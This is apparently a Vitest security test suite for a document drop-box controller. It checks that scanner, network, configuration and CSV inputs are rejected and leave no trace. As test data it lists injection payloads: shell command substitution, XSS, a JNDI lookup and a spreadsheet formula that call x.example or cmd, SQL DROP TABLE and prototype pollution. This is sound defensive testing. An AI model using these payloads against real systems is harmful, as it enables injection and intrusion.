import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { checkCharacter } from '#controller/domain/docket-code.ts';
import { startNode } from '../support/child.ts';
import { answerTo, arrive, dropOne, newPiece } from '../support/messenger.ts';
import { REGISTRAR, startSite, type RunningSite } from '../support/running-site.ts';
import { kioskWatch, tracesIn, tracesOnDisk } from '../support/traces.ts';
import { PATIENT } from '../support/until.ts';

const MB = 1024 * 1024;
/** Stands in everything hostile, so that wherever any of it ends up, it is found. */
const MARK = 'ZzMarkZz';

let site: RunningSite;
let kiosk: Awaited<ReturnType<typeof kioskWatch>>;
let session: string | undefined;
beforeAll(async () => {
  site = await startSite({
    change: (config) => {
      config.policies = { timings: { message: 0.15, idleSignOut: 3000, absoluteSignOut: 3000 } };
    },
  });
  await site.seed();
  kiosk = await kioskWatch(site);
  await arrive(site);
  session = (await site.snapshot()).endsAt ?? undefined;
});
afterAll(async () => {
  kiosk.stop();
  await site.stop();
});

const scan = (how: Record<string, unknown>): Promise<unknown> =>
  site.sim.do('scan', { device: 'scanner-front', ...how });
const scanner = async (): Promise<Record<string, number>> =>
  (await site.must('GET', '/api/v1/devices')).items.find(({ id }: { id: string }) => id === 'scanner-front')
    .counters;
/** Waits until the scanner's driver says that it threw something away. */
const thrownAway = async (act: () => Promise<unknown>, bytes = 1): Promise<number> => {
  const before = (await scanner())['discardedBytes'] ?? 0;
  await act();
  for (const end = performance.now() + PATIENT; performance.now() < end;) {
    const now = (await scanner())['discardedBytes'] ?? 0;
    if (now - before >= bytes) return now - before;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error('nothing was thrown away');
};
/** The same session, waiting for the next scan, with no door asked for. */
const unmoved = async (): Promise<void> => {
  const { screen, person, endsAt } = await site.snapshot();
  expect([screen.name, person?.number, endsAt]).toEqual(['drop-ready', '1001', session]);
  const events = await site.events();
  expect(events.filter(({ type }) => type === 'OpenRequested')).toEqual([]);
};

describe('what a scanner may send', () => {
  const controls: [string, Buffer][] = [
    ['NUL inside', Buffer.from(`${MARK}\0${MARK}`)],
    ['ESC, clear the screen', Buffer.from(`\x1b[2J${MARK}`)],
    ['Ctrl-C', Buffer.from(`\x03${MARK}`)],
    ['Ctrl-O, a file dialogue, as BadBarcode does', Buffer.from(`\x0fC:\\${MARK}.exe`)],
    ['Ctrl-Alt-Del and back space', Buffer.from(`\x1b\x7f\x08${MARK}`)],
    ['function keys of a keyboard scanner', Buffer.from(`\x11\x12cmd /c ${MARK}`)],
    ['STX and ETX inside', Buffer.from(`\x02${MARK}\x03`)],
    ['tabs through the fields of a form', Buffer.from(`1001\t12345678\t${MARK}`)],
    ['C1 control in UTF-8', Buffer.from(`\u009b31m${MARK}`)],
  ];
  test.each(controls)('%s: thrown away whole', async (_name, bytes) => {
    await thrownAway(() => scan({ hex: bytes.toString('hex') }), bytes.length);
    await unmoved();
  });

  const texts: [string, string][] = [
    ['right-to-left override', `\u202e${MARK}\u202c 7K3D`],
    ['isolates and zero-width characters', `\u2066${MARK}\u2069\u200b\ufeff`],
    ['markup', `<img src=x onerror="fetch('/${MARK}')">`],
    ['script', `<script>location='http://x.example/${MARK}'</script>`],
    ['a link', `https://x.example/${MARK}`],
    ['SQL', `'; DROP TABLE events; -- ${MARK}`],
    ['shell', `$(touch /tmp/${MARK}); \`id\``],
    ['a lookup', `\${jndi:ldap://x.example/${MARK}}`],
    ['a formula', `=cmd|'/c ${MARK}'!A1`],
    ['label language', `^XA^FO0,0^FD${MARK}^FS^XZ~JR`],
    ['programming: Newland', `@NLS0006000;${MARK}`],
    ['programming: Honeywell', `PAPHHF;SUFCA2;${MARK}.`],
    ['programming: Datalogic', `$+$!CSNRM00$-${MARK}`],
    ['a badge made at home', `DXB1${'0'.repeat(40)}`],
    ['a badge of another shape', `DXB1${MARK}`],
    ['4,000 characters', MARK.repeat(500)],
  ];
  test.each(texts)('%s: answered, followed by nothing', async (_name, text) => {
    const { message, screen, person } = await answerTo(site, () => scan({ text }));
    expect([screen.name, person?.number]).toEqual(['drop-ready', '1001']);
    expect(['unreadable', 'in-use']).toContain(message?.code);
    expect(message?.values).toEqual({});
    await unmoved();
  });

  test('no single wrong character makes a docket code another one', async () => {
    const docket = await newPiece(site, 'fgw');
    const wrong = [...docket].map((character, at) => {
      const other = character === '7' ? 'X' : '7';
      return docket.slice(0, at) + other + docket.slice(at + 1);
    });
    const forged = [
      ...wrong,
      docket.slice(0, -1),
      `${docket}0`,
      docket.toLowerCase(),
      docket.replace(/^./, '０'),
    ];
    for (const text of forged) {
      const { message } = await answerTo(site, () => scan({ text }));
      expect([text, message?.code]).toEqual([text, 'unreadable']);
    }
    // A code that nobody gave out, with the right check character.
    const nobodys = 'ABCDEFGHJKMNPQR';
    const { message } = await answerTo(site, () => scan({ text: nobodys + checkCharacter(nobodys) }));
    expect(message?.code).toBe('not-registered');
    await unmoved();
  });

  test('5,000 characters, and a megabyte, are thrown away whole', async () => {
    await thrownAway(() => scan({ text: MARK.repeat(625) }), 5000);
    await thrownAway(() => scan({ text: MARK.repeat(MB / 8) }), MB);
    await unmoved();
    const { message } = await answerTo(site, () => scan({ text: 'NOTACODE' }));
    expect(message?.code).toBe('unreadable');
  });

  test('a megabyte that never ends is given up, and the next scan counts', async () => {
    await site.sim.do('setFault', {
      device: 'scanner-front',
      fault: { name: 'truncated', bytes: MB, count: 1 },
    });
    await thrownAway(() => scan({ text: MARK.repeat(MB / 8) }), MB);
    const { message } = await answerTo(site, () => scan({ text: 'NOTACODE' }));
    expect(message?.code).toBe('unreadable');
    await unmoved();
  });

  test('ten megabyte scans do not make the controller grow', async () => {
    const resident = (): number => {
      const status = readFileSync(`/proc/${site.controller.pid}/status`, 'utf8');
      return Number(/^VmRSS:\s+(\d+) kB$/m.exec(status)?.[1]) / 1024;
    };
    const before = resident();
    for (let round = 0; round < 10; round += 1)
      await thrownAway(() => scan({ text: MARK.repeat(MB / 8) }), MB);
    expect(resident() - before).toBeLessThan(48);
    expect((await site.ask('GET', '/readyz')).status).toBe(200);
    await unmoved();
  });

  test('nothing of all this is on a screen, in the ledger, on the disk or in the log', async () => {
    expect(tracesIn('kiosk', Buffer.from(kiosk.all()), [MARK])).toEqual([]);
    expect(tracesIn('output', Buffer.from(site.controller.output()), [MARK])).toEqual([]);
    expect(tracesOnDisk(site.dir, [MARK])).toEqual([]);
    expect(existsSync(`/tmp/${MARK}`)).toBe(false);
  });
});

describe('what the network may send', () => {
  let cookie = '';
  beforeAll(async () => {
    const response = await fetch(`${site.url}/api/v1/sign-in`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'idempotency-key': randomUUID() },
      body: JSON.stringify({ number: REGISTRAR.number, pin: REGISTRAR.pin }),
    });
    cookie = response.headers.getSetCookie()[0]?.split(';')[0] ?? '';
    expect(cookie).not.toBe('');
  });
  const department = { code: 'xyz', name: '某局' };
  const nested = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
  const JSON_TYPE = 'application/json';
  const bodies: [string, string, string, number, string][] = [
    ['malformed JSON', '{"code": "xyz", ', JSON_TYPE, 400, 'malformed-json'],
    ['no JSON at all', '\0\x1b[2J', JSON_TYPE, 400, 'malformed-json'],
    [
      'a megabyte',
      JSON.stringify({ ...department, name: MARK.repeat(MB / 8) }),
      JSON_TYPE,
      413,
      'body-too-large',
    ],
    [
      'another content type',
      'code=xyz&name=x',
      'application/x-www-form-urlencoded',
      415,
      'unsupported-media-type',
    ],
    ['text that is JSON', JSON.stringify(department), 'text/plain', 415, 'unsupported-media-type'],
    ['an unknown field', JSON.stringify({ ...department, admin: true }), JSON_TYPE, 422, ''],
    ['a prototype', `{"code":"xyz","name":"x","__proto__":{"roles":["registrar"]}}`, JSON_TYPE, 422, ''],
    ['deep nesting', `{"code":"xyz","name":${nested}}`, JSON_TYPE, 422, ''],
    ['deep nesting alone', nested, JSON_TYPE, 422, ''],
    ['a list', '[]', JSON_TYPE, 422, ''],
    ['a number', '1e999', JSON_TYPE, 422, ''],
  ];
  test.each(bodies)(
    '%s is a problem with a code, and nothing happens',
    async (_name, body, type, status, code) => {
      const before = await site.events();
      const response = await fetch(`${site.url}/api/v1/departments`, {
        method: 'POST',
        headers: { 'content-type': type, 'idempotency-key': randomUUID(), cookie },
        body,
      });
      const problem = (await response.json()) as { code: string };
      expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(response.status).toBe(status);
      if (code) expect(problem.code).toBe(code);
      expect(JSON.stringify(problem).length).toBeLessThan(4000);
      expect(await site.events()).toHaveLength(before.length);
    },
  );

  test.each([
    ['another command', { type: 'open-all' }],
    ['a command with more in it', { type: 'finish', print: 'none', force: true }],
    ['a list of too many', { type: 'open-boxes', compartments: Array.from({ length: 5000 }, () => 'A01') }],
  ])('the kiosk: %s is refused and the session stays', async (_name, command) => {
    const { status } = await site.ask('POST', '/api/v1/stations/front/session', command);
    expect(status).toBe(422);
    await unmoved();
  });

  test('a CSV with bad rows is reported by row, column, value and fix, and no row of it is kept', async () => {
    const csv = 'code,name\ngood-one,好局\nBAD CODE,坏局\nthird,\n';
    const before = await site.events();
    const response = await fetch(`${site.url}/api/v1/import/departments`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv', 'idempotency-key': randomUUID(), cookie },
      body: csv,
    });
    const problem = (await response.json()) as { code: string; errors: Record<string, string>[] };
    expect([response.status, problem.code]).toEqual([422, 'import-problems']);
    expect(problem.errors).toEqual([
      { path: '/3/code', value: 'BAD CODE', fix: expect.stringMatching(/./) },
      { path: '/4/name', value: '', fix: expect.stringMatching(/./) },
    ]);
    expect(await site.events()).toHaveLength(before.length);
  });
});

describe('a wrong configuration starts nothing and makes nothing', () => {
  type Json = any;
  const broken: [string, (site: Json) => string, string[]][] = [
    [
      'a syntax error',
      (json) => JSON.stringify(json, null, 2).replace('"kind"', 'kind'),
      [':', 'double quotes'],
    ],
    [
      'an unknown kind',
      (json) => ((json.devices[0].kind = 'lock-board/none'), JSON.stringify(json)),
      ['devices[0].kind', 'lock-board/none', 'lock-board/bcc8a'],
    ],
    [
      'a missing device',
      (json) => ((json.cabinets[0].stations[0].scanner = 'scanner-back'), JSON.stringify(json)),
      ['cabinets[0].stations[0].scanner', 'scanner-back', 'scanner-front'],
    ],
    [
      'two locks on one channel',
      (json) => ((json.cabinets[0].compartments[1].lock.front.channel = 1), JSON.stringify(json)),
      ['cabinets[0].compartments[1].lock.front', '1', 'A01'],
    ],
    [
      'a link that is none',
      (json) => ((json.devices[0].link = 'serial:/dev/ttyS1?baud=9601'), JSON.stringify(json)),
      ['devices[0].link', '9601', '9600'],
    ],
  ];
  test.each(broken)('%s', async (name, breakIt, words) => {
    const folder = join(site.dir, `broken ${name}`);
    mkdirSync(folder);
    const file = join(folder, 'site.json');
    writeFileSync(file, breakIt(JSON.parse(readFileSync(site.sim.configFile, 'utf8'))));
    const data = join(folder, 'data');
    const child = startNode([
      'controller/cli/main.ts',
      'serve',
      '--config',
      file,
      '--data',
      data,
      '--port',
      '0',
    ]);
    expect(await child.ended).toBe(1);
    for (const word of ['site.json', ...words]) expect(child.output()).toContain(word);
    expect(child.output()).not.toContain('http://');
    expect(readdirSync(folder)).toEqual(['site.json']);
  });
});

describe('after all of it', () => {
  test('the session is intact and a sheet goes into its box', async () => {
    await unmoved();
    await dropOne(site, 'czj');
    expect((await site.snapshot()).endsAt).toBe(session);
  });

  test('docketbox import reports bad rows by row, column, value and fix, and imports none of them', async () => {
    expect(await site.controller.end()).toBe(0);
    const before = verified();
    const good = '某政办函〔2026〕900号,关于某事的函,某市人民政府办公室,函,无,发展和改革委员会*2';
    const file = join(site.dir, 'documents.csv');
    writeFileSync(
      file,
      [
        'number,title,issuers,kind,secrecy,recipients',
        good,
        good.replace('900', '901').replace('发展和改革委员会*2', '没有这个局'),
        good.replace('900', '902').replace('无', `秘密`).replace('某事', MARK),
        good.replace('900', '903').replace('关于某事的函', ''),
      ].join('\r\n'),
    );
    const child = startNode(['controller/cli/main.ts', 'import', 'documents', file, '--data', site.dataDir]);
    expect(await child.ended).toBe(1);
    const lines = child.output().split('\n');
    expect(lines.some((line) => /row 3, recipients.*没有这个局.* — ./.test(line))).toBe(true);
    expect(lines.some((line) => /row 4\b/.test(line) && !/row 4.*〔2026〕902/.test(line))).toBe(true);
    expect(lines.some((line) => /row 5, title.* — ./.test(line))).toBe(true);
    expect(child.output()).toMatch(/3 problems: nothing was imported/);
    expect(child.output()).not.toContain(MARK);
    expect(tracesOnDisk(site.dataDir, [MARK, '〔2026〕902号'])).toEqual([]);
    // One line more: that something classified was refused.
    expect(verified().size).toBe(before.size + 1);
  });

  test('the ledger verifies', () => {
    expect(verified()).toMatchObject({ findings: [] });
  });
  const verified = (): any =>
    JSON.parse(
      execFileSync(process.execPath, ['controller/cli/main.ts', 'verify', '--data', site.dataDir, '--json'], {
        encoding: 'utf8',
      }),
    );
});
